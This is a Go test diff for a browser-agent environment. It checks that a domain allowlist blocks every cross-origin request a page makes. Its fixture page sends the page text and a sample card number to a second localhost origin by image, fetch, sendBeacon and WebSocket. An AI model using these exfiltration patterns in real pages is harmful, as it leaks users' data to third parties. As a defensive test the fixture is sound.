@@ -7,6 +7,7 @@ import (
 	"net/http"
 	"net/http/httptest"
 	"strings"
+	"sync"
 	"testing"
 
 	"github.com/pilotkit/pilot/env"
@@ -153,5 +154,71 @@ func TestIrreversibleWords(t *testing.T) {
 		if got := (&Env{}).Irreversible(obs, c.a); (got != "") != c.want {
 			t.Errorf("Irreversible(%v) = %q, want flagged %v", c.a, got, c.want)
 		}
+	}
+}
+
+// leakySite serves a page on 127.0.0.1 that sends the page's data to
+// "another origin" (the same server as localhost) every way a page can:
+// an image, fetch with the data in the query, a beacon, a WebSocket.
+// hits counts what reached the other origin.
+func leakySite(t *testing.T) (*httptest.Server, func() int) {
+	var mu sync.Mutex
+	hits := 0
+	mux := http.NewServeMux()
+	var srv *httptest.Server
+	mux.HandleFunc("/page", func(w http.ResponseWriter, r *http.Request) {
+		other := strings.Replace(srv.URL, "127.0.0.1", "localhost", 1)
+		fmt.Fprintf(w, `<!doctype html><html><head><title>Leaky</title></head><body><p>card 4111</p>
+<img src="%[1]s/leak/img" alt="pixel">
+<script>
+fetch('%[1]s/leak/fetch?d=' + encodeURIComponent(document.body.innerText)).catch(function(){});
+navigator.sendBeacon('%[1]s/leak/beacon', 'card 4111');
+try { new WebSocket('%[2]s/leak/ws') } catch (e) { document.title = 'ws refused' }
+</script></body></html>`, other, strings.Replace(other, "http", "ws", 1))
+	})
+	mux.HandleFunc("/leak/", func(w http.ResponseWriter, r *http.Request) {
+		mu.Lock()
+		hits++
+		mu.Unlock()
+	})
+	srv = httptest.NewServer(mux)
+	t.Cleanup(srv.Close)
+	return srv, func() int { mu.Lock(); defer mu.Unlock(); return hits }
+}
+
+// With an allowlist, no request of a page reaches another origin: the
+// image, the fetch, the beacon and the WebSocket are refused, and the
+// step lists what was blocked. Without one the same page leaks (the test
+// can fail).
+func TestAllowlistCoversEveryRequest(t *testing.T) {
+	t.Parallel()
+	srv, hits := leakySite(t)
+	e := newEnv(t, Options{AllowDomains: []string{"127.0.0.1"}})
+	obs, err := e.Reset(t.Context(), env.Task{StartURL: srv.URL + "/page"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	st := mustStep(t, e, env.A("noop"))
+	if n := hits(); n != 0 {
+		t.Fatalf("%d requests reached the other origin through the allowlist", n)
+	}
+	blocked, _ := st.Info["blocked_requests"].([]string)
+	all := strings.Join(blocked, "\n")
+	for _, want := range []string{"image GET", "GET http://localhost", "/leak/fetch?d=", "ping POST"} {
+		if !strings.Contains(all, want) {
+			t.Errorf("the step's blocked requests\n%s\nlack %q", all, want)
+		}
+	}
+	if obs.Title != "ws refused" && st.Obs.Title != "ws refused" {
+		t.Errorf("the WebSocket was not refused: title %q", st.Obs.Title)
+	}
+
+	open := pooledEnv(t)
+	if _, err := open.Reset(t.Context(), env.Task{StartURL: srv.URL + "/page"}); err != nil {
+		t.Fatal(err)
+	}
+	mustStep(t, open, env.A("noop"))
+	if hits() == 0 {
+		t.Errorf("without an allowlist nothing reached the other origin: the page does not leak, and the test proves nothing")
 	}
 }
